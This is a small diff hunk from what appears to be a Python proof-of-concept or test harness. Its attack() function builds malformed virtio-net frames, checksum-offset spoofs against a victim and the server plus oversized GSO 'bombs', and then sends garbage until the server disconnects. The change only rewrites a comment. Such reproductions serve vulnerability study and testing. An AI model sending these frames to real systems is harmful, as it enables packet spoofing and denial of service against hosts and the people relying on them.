@@ -150,7 +150,7 @@ def attack():
         frames = FUZZED
     else:
         frames = bad_frames(me, victim, server_ip)
-    # The two attacks the issue names, a few times each, then garbage until the server hangs up.
+    # The two attacks (checksum-offset spoofs, GSO bombs), a few times each, then garbage until the server hangs up.
     for attack_frame in [] if plan.get("fuzz_file") else [frame(GSO, vnet(NEEDS_CSUM, 0, 28, 0, 0, 12) + udp(me, victim, 7777, b"spoof"))] * 3 + [
         frame(GSO, vnet(NEEDS_CSUM, 0, 28, 0, 12, 0) + udp(me, server_ip, 7777, b"spoof"))
     ] * 3 + [frame(GSO, vnet(NEEDS_CSUM, GSO_TCPV4, 40, 1, 20, 16) + tcp(me, victim, b"B" * 60000))] * 10:
